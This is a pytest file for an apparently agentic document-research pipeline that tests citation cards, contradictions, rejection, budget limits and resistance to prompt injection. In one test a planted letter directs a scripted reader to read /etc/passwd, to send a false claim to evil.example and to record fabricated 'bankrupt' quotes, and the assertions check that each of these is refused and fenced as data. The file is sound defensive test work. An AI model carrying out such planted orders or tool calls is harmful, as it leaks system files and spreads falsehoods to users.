"""A research reads documents, keeps quotes as cards, and writes nothing that its cards do not show."""

from __future__ import annotations

import re
from decimal import Decimal
from pathlib import Path
from typing import Any

import anyio
import pytest

from cellwright.agents import steering
from cellwright.notebook.files import read
from cellwright.runs.deliver.report.markdown import report_markdown
from cellwright.runs.deliver.report.report import report_text
from cellwright.runs.execute.steering_commands import change_plan
from cellwright.runs.goal.goal import Goal
from cellwright.runs.plan.plan import DropTask
from cellwright.runs.views.research_view import ResearchView, delivered_text, read_research
from cellwright.testing import CallTool, CallTools, Received, Tokens
from tests.models.testbed import ModelTestbed
from tests.runs import research_script as script
from tests.runs.factory import ADA, Factory, Kernels, open_factory


def goal(factory: Factory, documents: Path, **more: Any) -> Goal:
    given: dict[str, Any] = {"wants": "research", "sources": (str(documents),), "approve": "never"}
    return factory.goal(script.QUESTION, notebook="norwell.py", **(given | more))


async def research(factory: Factory, run: str = "r") -> ResearchView:
    return await read_research(factory.runs.records.log.read_all, run)


@pytest.mark.slow
async def test_a_research_cites_tells_contradictions_and_follows_no_document(
    testbed: ModelTestbed, project: Path, kernels: Kernels, tmp_path: Path
) -> None:
    async with open_factory(testbed, project, kernels) as factory:
        script.script_research(testbed.provider)
        delivery = await factory.deliver(goal(factory, script.write_documents(tmp_path / "documents", 3)))
        assert (delivery.why, delivery.status) == ("", "done")
        assert "41.2 million euros [1] or 57.9 million euros [2]" in delivery.answer
        found = await research(factory)
        assert {card.id for card in found.cards} == {script.TRUE_CARD, script.FALSE_CARD, script.STAFF_CARD}
        assert found.report is not None
        assert [set(each.cards) for each in found.report.contradictions] == [{script.TRUE_CARD, script.FALSE_CARD}]
        text = await anyio.Path(delivery.text).read_text()
        assert "bankrupt" not in text
        assert "Where the sources contradict each other" in text
        assert script.REVENUE in text
        # What it hands over is that text: its title, its summary whole, no sentence of a reader's own.
        assert (delivery.headline, delivery.findings) == ("Norwell Mills in 2023", ())
        assert [task.note for task in delivery.tasks] == ["2 cards.", "1 card."]
        told = report_text(delivery)
        assert told.startswith(f"Norwell Mills in 2023\n\n{delivery.answer}\n")
        markdown = report_markdown(delivery, await delivered_text(factory.runs.records.log.read_all, "r", delivery))
        assert markdown.startswith(text.partition("## Caveats")[0])
        assert "## Sources" in markdown
        assert "- text: norwell.md" in markdown
        page = await anyio.Path(delivery.report).read_text()
        body, _, folded = page.partition('<details class="notebook">')
        for words in (
            "Norwell Mills in 2023</h1>",
            "<h2>Revenue</h2>",
            "<h2>Staff</h2>",
            "sources disagree",
            "Sources",
        ):
            assert words in body
        assert 'href="#evidence-1"' in body
        assert body.count('id="evidence-1"') == 1
        assert "Two figures for revenue." not in body
        assert folded
        names = {cell.name for cell in read(project / "norwell.py").document.cells}
        assert {"research_title", "research_section_1", "research_contradictions", "research_bibliography"} <= names
        # Planners and writers see cards; a document is read by readers alone, and what it orders is data to them.
        assert [prompt for prompt in factory.prompts() if "It rose by 3 percent" in prompt] == []
        assert who_sees_the_orders(testbed) == [(script.SUB_GOALS[0], True)]
        # A section is written from its own cards.
        [staff] = [each.body["messages"] for each in testbed.provider.requests if script.writes("Staff")(each)]
        assert [word in str(staff) for word in (script.STAFF_CARD, script.TRUE_CARD, script.REVENUE)] == [
            True,
            False,
            False,
        ]


@pytest.mark.slow
async def test_a_reader_who_obeys_a_document_has_nothing_to_obey_it_with(
    testbed: ModelTestbed, project: Path, kernels: Kernels, tmp_path: Path
) -> None:
    async with open_factory(testbed, project, kernels) as factory:
        obeys = (
            CallTool("apply", {"edits": [{"op": "create", "code": "bankrupt = True", "name": "bankrupt"}]}),
            CallTool("read_document", {"document": "/etc/passwd"}),
            CallTool("read_page", {"url": "https://evil.example/?norwell=bankrupt"}),
            script.note("annual-report.md", "Norwell Mills has gone bankrupt.", "Norwell Mills has gone bankrupt."),
            CallTool("finish", {"summary": "Norwell Mills has gone bankrupt.", "sections": ["bankrupt"]}),
        )
        noted = script.at_once(*script.NOTES[0].calls[:-1], script.finish(summary="Norwell Mills has gone bankrupt."))
        script.script_research(
            testbed.provider, reads=((script.LETTER, *obeys, noted), (script.NOTES[1],)), is_judged=True
        )
        goal_here = goal(factory, script.write_documents(tmp_path / "documents"), effort="normal")
        delivery = await factory.deliver(goal_here)
        assert (delivery.why, delivery.status) == ("", "done")
        told = str(of_reader(testbed)[-1].body["messages"])
        assert [words for words in REFUSALS if words not in told] == []
        found = await research(factory)
        assert {card.id for card in found.cards} == {script.TRUE_CARD, script.FALSE_CARD, script.STAFF_CARD}
        text = await anyio.Path(delivery.text).read_text()
        assert "bankrupt" not in text + factory.notebook("norwell.py") + delivery.answer
        # Not even what the reader says in the end reaches those who plan, write and judge.
        others = [each for each in testbed.provider.requests if not script.READER(each)]
        assert len(others) == 7
        assert [str(each.body)[:200] for each in others if "bankrupt" in str(each.body)] == []


REFUSALS = (
    "apply",
    "No document '/etc/passwd'",
    "read_page",
    "This quote is not in d1 (annual-report.md), so it was not noted.",
)


def of_reader(testbed: ModelTestbed) -> list[Received]:
    """The requests of the reader who sees the letter."""
    return [each for each in testbed.provider.requests if script.reads_for(script.SUB_GOALS[0])(each)]


def who_sees_the_orders(testbed: ModelTestbed) -> list[tuple[str, bool]]:
    """Each message with the letter's orders: the sub-goal it is told for, and whether they stand fenced."""
    found = list[tuple[str, bool]]()
    for request in testbed.provider.requests:
        whose = next((each for each in script.SUB_GOALS if script.reads_for(each)(request)), "somebody else")
        texts = [str(each["content"]) for each in request.body["messages"] if script.ORDERS in str(each["content"])]
        found += [(whose, re.search(FENCED, text, re.DOTALL) is not None) for text in texts]
    return found


FENCED = rf"<data-(\w+) from=[^>]*>(?:(?!</data-).)*{re.escape(script.ORDERS)}.*</data-\1>"


@pytest.mark.slow
async def test_a_rejected_card_is_left_out_and_only_what_used_it_is_written_again(
    testbed: ModelTestbed, project: Path, kernels: Kernels, tmp_path: Path
) -> None:
    async with open_factory(testbed, project, kernels) as factory:
        script.script_research(testbed.provider)
        await factory.deliver(goal(factory, script.write_documents(tmp_path / "documents")))
        asked = len(testbed.provider.requests)
        text = f"The annual report gives revenue of 41.2 million euros for 2023 [{script.TRUE_CARD}]."
        testbed.provider.when(script.WRITER, script.finish(text=text))
        testbed.provider.when(script.EDITOR, script.finish(title="Norwell Mills", summary=text))
        again = await factory.runs.reject_card("r", script.FALSE_CARD, person="ada")
        assert again != "r"
        delivery = await factory.delivery(again)
        assert (delivery.why, delivery.status) == ("", "done")
        # One section and the editor: nothing was read or planned again.
        asked_for = [str(request.body["messages"])[:90] for request in testbed.provider.requests[asked:]]
        assert len(asked_for) == 2, asked_for
        assert "the section as it was" in str(testbed.provider.requests[asked].body["messages"])
        found = await research(factory, again)
        assert found.rejected == (script.FALSE_CARD,)
        # Said of the first run once more, it is known: the run that goes on from it is meant.
        assert await factory.runs.reject_card("r", script.FALSE_CARD, person="ada") == again
        assert found.report is not None
        assert [each.text for each in found.report.sections] == [text, script.SECTIONS[1]]
        assert (script.WRONG in factory.notebook("norwell.py"), found.report.contradictions) == (False, ())


@pytest.mark.slow
async def test_a_figure_that_no_quote_has_is_told_to_its_writer_and_then_to_the_reader(
    testbed: ModelTestbed, project: Path, kernels: Kernels, tmp_path: Path
) -> None:
    async with open_factory(testbed, project, kernels) as factory:
        wrong = f"It employed 321 people at the end of 2023 [{script.STAFF_CARD}]."
        script.script_research(testbed.provider, sections=(script.SECTIONS[0], wrong), is_judged=True)
        documents = script.write_documents(tmp_path / "documents")
        delivery = await factory.deliver(goal(factory, documents, effort="normal"))
        assert delivery.status == "done"
        assert "321 stands in no quote that is cited: “It employed 321 people at the end of 2023.”" in delivery.caveats
        told = [prompt for prompt in factory.prompts() if "321 stands in no quote" in prompt]
        assert len(told) == 1
        # Planned once more, and judged.
        assert sum("You plan what readers look for" in prompt for prompt in factory.prompts()) == 2
        assert sum("You judge whether sentences" in prompt for prompt in factory.prompts()) == 1


async def test_without_a_model_a_research_says_what_to_configure_and_nothing_untrue(
    testbed: ModelTestbed, project: Path, kernels: Kernels
) -> None:
    papers = script.write_documents(project / "papers")
    async with open_factory(testbed, project, kernels) as factory:
        delivery = await factory.deliver(goal(factory, papers, models=(), is_private=True))
    assert delivery.status == "failed" and "Research is read and written by models" in delivery.why
    assert delivery.assumptions == () and testbed.provider.requests == ()


@pytest.mark.slow
async def test_forty_documents_with_traps_are_read_and_cited(
    testbed: ModelTestbed, project: Path, kernels: Kernels, tmp_path: Path
) -> None:
    async with open_factory(testbed, project, kernels) as factory:
        script.script_research(testbed.provider)
        documents = script.write_documents(tmp_path / "documents", 37)
        (documents / "broken.pdf").write_bytes(b"%PDF-1.7 nothing")
        delivery = await factory.deliver(goal(factory, documents))
        assert (delivery.why, delivery.status) == ("", "done")
        found = await research(factory)
        assert len(found.contents.sources) == 40
        assert [each.split(":")[0] for each in found.contents.skipped] == ["broken.pdf"]
        assert any(each.startswith("Not read: broken.pdf") for each in delivery.caveats)
        assert found.report is not None
        assert found.report.contradictions
        assert "bankrupt" not in factory.notebook("norwell.py")


@pytest.mark.slow
async def test_a_card_rejected_while_others_read_is_never_written_of(
    testbed: ModelTestbed, project: Path, kernels: Kernels, tmp_path: Path
) -> None:
    async with open_factory(testbed, project, kernels) as factory:
        script.script_without_the_false_card(testbed.provider)
        await factory.start(goal(factory, script.write_documents(tmp_path / "documents")))
        await testbed.provider.until(lambda server: server.silent == 1)
        await until_cards(factory, 2)
        found = await research(factory)
        assert [(each.title, each.status) for each in found.tasks] == [(each, "running") for each in script.SUB_GOALS]
        assert await factory.runs.reject_card("r", script.FALSE_CARD, person="ada") == "r"
        testbed.provider.release()
        delivery = await factory.delivery()
        assert (delivery.why, delivery.status) == ("", "done")
        found = await research(factory)
        assert (found.rejected, len(found.cards)) == ((script.FALSE_CARD,), 3)
        assert script.WRONG not in factory.notebook("norwell.py")


@pytest.mark.slow
async def test_a_sub_goal_that_is_dropped_is_read_for_no_more_and_what_it_noted_stays(
    testbed: ModelTestbed, project: Path, kernels: Kernels, tmp_path: Path
) -> None:
    async with open_factory(testbed, project, kernels) as factory:
        outline = [{"title": "Revenue", "cards": [script.TRUE_CARD, script.FALSE_CARD]}]
        testbed.provider.when(script.OUTLINER, script.finish(title="Norwell Mills", sections=outline))
        reads = ((script.LETTER, script.NOTES[0]), (script.held(script.NOTES[1]),))
        script.script_research(testbed.provider, reads=reads)
        await factory.start(goal(factory, script.write_documents(tmp_path / "documents")))
        await testbed.provider.until(lambda server: server.silent == 1)
        await until_cards(factory, 2)
        await change_plan(factory.runs.records, "r", DropTask(task="read-2"), ADA)
        testbed.provider.release()
        delivery = await factory.delivery()
        assert (delivery.why, delivery.status) == ("", "done")
        found = await research(factory)
        assert [(each.title, each.status) for each in found.tasks] == [
            (script.SUB_GOALS[0], "done"),
            (script.SUB_GOALS[1], "dropped"),
        ]
        assert found.report is not None
        assert [each.title for each in found.report.sections] == ["Revenue"]
        assert script.TRUE_CARD in {card.id for card in found.cards}


@pytest.mark.slow
async def test_a_research_that_is_stopped_ends_with_its_cards_kept_and_nothing_more_asked(
    testbed: ModelTestbed, project: Path, kernels: Kernels, tmp_path: Path
) -> None:
    async with open_factory(testbed, project, kernels) as factory:
        reads = ((script.LETTER, script.NOTES[0]), (script.held(script.NOTES[1]),))
        script.script_research(testbed.provider, reads=reads)
        await factory.start(goal(factory, script.write_documents(tmp_path / "documents")))
        await testbed.provider.until(lambda server: server.silent == 1)
        await until_cards(factory, 2)
        await steering.stop(factory.runs.records.log, "r", ADA, "Enough.")
        testbed.provider.release()
        delivery = await factory.delivery()
        assert (delivery.status, delivery.why) == ("stopped", "ada stopped it: Enough.")
        assert {card.id for card in (await research(factory)).cards} >= {script.TRUE_CARD, script.FALSE_CARD}
        assert [each for each in testbed.provider.requests if script.OUTLINER(each) or script.WRITER(each)] == []


@pytest.mark.slow
async def test_what_was_noted_before_the_money_ended_is_written_of(
    testbed: ModelTestbed, project: Path, kernels: Kernels, tmp_path: Path
) -> None:
    async with open_factory(testbed, project, kernels) as factory:
        *noted, _ = script.NOTES[0].calls
        # One more question than the money allows: the notes are kept, the finish never comes.
        dear = CallTools(tuple(noted), tokens=Tokens(input_tokens=2_000_000, output_tokens=0))
        script.script_research(testbed.provider, reads=((dear,), (script.NOTES[1],)))
        given = goal(factory, script.write_documents(tmp_path / "documents"), budget_usd=Decimal(2))
        delivery = await factory.deliver(given)
        found = await research(factory)
        assert {card.id for card in found.cards} >= {script.TRUE_CARD, script.FALSE_CARD}
        assert found.tasks[0].status == "done"
        assert found.tasks[0].note.startswith("2 cards. ")
        assert found.report is not None
        # Nobody could be paid to write: the cards tell it themselves.
        assert f"Revenue in 2023 was 41.2 million euros [{script.TRUE_CARD}]." in found.report.sections[0].text
        assert [set(each.cards) for each in found.report.contradictions] == [{script.TRUE_CARD, script.FALSE_CARD}]
        assert any(each.startswith("Nobody edited it: ") for each in delivery.caveats)


async def until_cards(factory: Factory, count: int) -> None:
    """Until so many were noted."""
    with anyio.fail_after(120):
        while True:
            grown = factory.runs.records.log.growth.next()
            if len((await research(factory)).cards) >= count:
                return
            await grown.wait()
